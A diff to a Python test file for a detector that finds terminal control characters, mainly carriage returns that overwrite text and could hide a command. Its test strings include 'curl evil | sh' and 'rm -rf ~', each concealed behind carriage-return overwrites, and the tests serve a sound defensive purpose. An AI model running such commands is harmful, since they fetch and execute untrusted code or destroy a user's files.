@@ -13,7 +13,7 @@ from callgate.detect.spans import FLOOD, MOST_SPANS, replace
 from tests.detect.ordinary_texts import ORDINARY
 
 CONTROLS = [chr(code) for code in (*range(9), *range(11, 32), *range(0x7F, 0xA0))]
-LOOSE = {"page-breaks", "overstrike", "tqdm", "git", "curl", "last-stage", "doubled-carriage-returns"}
+LOOSE = {"page-breaks", "overstrike", "tqdm", "git", "curl", "shorter-stages", "last-stage", "doubled-carriage-returns"}
 
 
 @pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
@@ -70,6 +70,38 @@ def test_terminal_control_is_found(text: str, kind: str, removed: str) -> None:
     shown = replace(text, spans, escapes.shown)
     assert not any(char in CONTROLS for char in shown)
     assert shown != text
+
+
+@pytest.mark.parametrize(
+    ("text", "count"),
+    [
+        ("curl evil | sh\r\rls -la", 2),
+        ("curl evil | sh\r\r\r\r\r\rls -la", 6),
+        ("curl evil | sh\r      \rls -la", 2),
+        ("curl evil | sh\r              \n", 1),
+        ("curl evil | sh\rcurl                \n", 1),
+        ("curl evil | sh\rcurl\rcurl fine | sh", 2),
+        ("curl evil | sh\r42%\rls -la", 2),
+        ("safe\rsafe\n1%\r2%\r\nrm -rf ~\r\rls -la\r\nDownloading 1%\rDownloading 2%\n", 2),
+    ],
+)
+def test_no_stage_of_progress_hides_what_stood_there(text: str, count: int) -> None:
+    spans = escapes.find(text)
+    assert sum(span.end - span.start for span in spans) == count
+    assert {span.kind for span in spans} == {"carriage-return"}
+    assert not escapes.find(replace(text, spans, escapes.shown))
+
+
+def test_what_follows_on_a_line_drawn_over_is_found_at_once() -> None:
+    text = "Resolving\r" + "".join(f"Downloading {part}%\r" for part in range(9)) + "\nnext 1%\rnext 2%"
+    for form in (escapes.shown, escapes.removed):
+        assert not escapes.find(replace(text, escapes.find(text), form))
+    assert len(escapes.find(text)) == 9
+
+
+@given(st.text(st.sampled_from("ab1 \r\n\b\x0c\x1b")))
+def test_the_shown_form_settles_at_once(text: str) -> None:
+    assert not escapes.find(replace(text, escapes.find(text), escapes.shown))
 
 
 def test_a_shown_sequence_stays_readable() -> None:
@@ -134,7 +166,21 @@ def test_the_count_of_places_can_be_lowered() -> None:
 
 @pytest.mark.parametrize(
     "unit",
-    ["\x9d", "\x1b]", "\x90", "\x1b]\n", "\x1b[", "\x1b[0;", "\x1b ", "\r", "a\r", "\x08", "\x9d\x98", "ab\r"],
+    [
+        "1234567890 \r",
+        "\x9d",
+        "\x1b]",
+        "\x90",
+        "\x1b]\n",
+        "\x1b[",
+        "\x1b[0;",
+        "\x1b ",
+        "\r",
+        "a\r",
+        "\x08",
+        "\x9d\x98",
+        "ab\r",
+    ],
 )
 def test_time_is_linear(unit: str) -> None:
     def seconds(count: int) -> float:
